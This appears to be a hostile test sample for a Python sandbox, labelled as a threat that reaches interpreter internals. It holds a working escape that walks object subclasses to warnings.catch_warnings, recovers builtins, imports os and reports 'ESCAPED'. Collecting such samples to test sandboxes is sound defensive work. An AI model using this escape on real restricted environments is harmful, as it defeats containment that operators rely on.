# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: ().__class__.__mro__[-1].__subclasses__() -> warnings.catch_warnings -> builtins
# naive exec: escapes: catch_warnings keeps a reference to the warnings module and its builtins
for cls in ().__class__.__mro__[-1].__subclasses__():
    if cls.__name__ == "catch_warnings":
        module = cls()._module
        result = "ESCAPED " + module.__builtins__["__import__"]("os").getcwd()
